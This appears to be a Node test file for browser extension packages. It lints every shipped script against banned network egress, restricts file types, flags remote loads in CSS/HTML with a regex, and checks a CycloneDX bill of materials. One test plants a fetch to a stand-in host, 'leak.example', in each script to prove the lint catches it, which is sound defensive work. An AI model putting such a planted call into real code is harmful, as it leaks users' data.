// What is in a package, file by file: the lint that closes every way out, over each script as it ships; only files of the
// kinds that are known; the bill of materials. (manifest.test.mjs has the manifest and the policy.)

import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { ESLint } from 'eslint';
import { PACKAGES, ROOT, extensionFor } from './harness.mjs';

const eslint = new ESLint({ cwd: ROOT, overrideConfigFile: join(ROOT, 'tests/browser/lint/eslint.config.mjs') });

const KINDS = /\.(js|css|html|json|png|wasm|pack|txt)$|^(LICENSE-MIT|LICENSE-APACHE|NOTICE)$/;
/** What a style sheet could load, or a page run, from elsewhere. */
const ELSEWHERE = /(?:url\(|@import|src\s*=|href\s*=)\s*["']?(?:[a-z]+:)?\/\//i;

/** What the lint says of a script of the package, by the rules for the place where it lies. */
async function refusals(name, source) {
  const [result] = await eslint.lintText(source, { filePath: join(ROOT, 'extension', name) });
  return result.messages.map(({ line, message }) => `${name}:${line} ${message}`);
}

for (const browser of PACKAGES) {
  const folder = extensionFor(browser);
  const files = readdirSync(folder, { recursive: true })
    .map((name) => name.replaceAll('\\', '/'))
    .filter((name) => statSync(join(folder, name)).isFile());
  const read = (name) => readFileSync(join(folder, name), 'utf8');
  const scripts = files.filter((name) => name.endsWith('.js'));

  describe(browser, () => {
    test('every script is held to the banned ways out', async () => {
      assert.ok(scripts.length > 20);
      for (const name of scripts) assert.deepEqual(await refusals(name, read(name)), []);
    });

    test('this would notice: one line planted in each script', async () => {
      for (const name of scripts) {
        assert.notDeepEqual(await refusals(name, `${read(name)}\nglobalThis.fetch('https://leak.example/');\n`), [], name);
      }
    });

    test('files are of known kinds, and none loads from elsewhere', () => {
      for (const name of files) {
        assert.match(name, KINDS);
        if (/\.(css|html)$/.test(name)) assert.doesNotMatch(read(name), ELSEWHERE, name);
      }
    });

    test('the bill of materials names what the licence texts are of, and what the pack is made of', () => {
      const bill = JSON.parse(read('sbom.cdx.json'));
      assert.equal(`${bill.bomFormat} ${bill.specVersion}`, 'CycloneDX 1.6');
      const of = (type) => bill.components.filter((component) => component.type === type);
      const texts = [...read('THIRD-PARTY.txt').matchAll(/^={80}\n(\S+) (\S+) \(/gm)].map(([, name, version]) => `${name} ${version}`);
      assert.deepEqual(of('library').map(({ name, version }) => `${name} ${version}`), texts);
      for (const { name, hashes, licenses } of of('library')) {
        assert.match(hashes[0].content, /^[0-9a-f]{64}$/, name);
        assert.ok(licenses[0].expression, name);
      }
      assert.ok(of('data').some(({ name }) => name.includes('Tabular List')));
      assert.ok(of('data').some(({ name }) => name.includes('Alphabetic Index')));
    });
  });
}
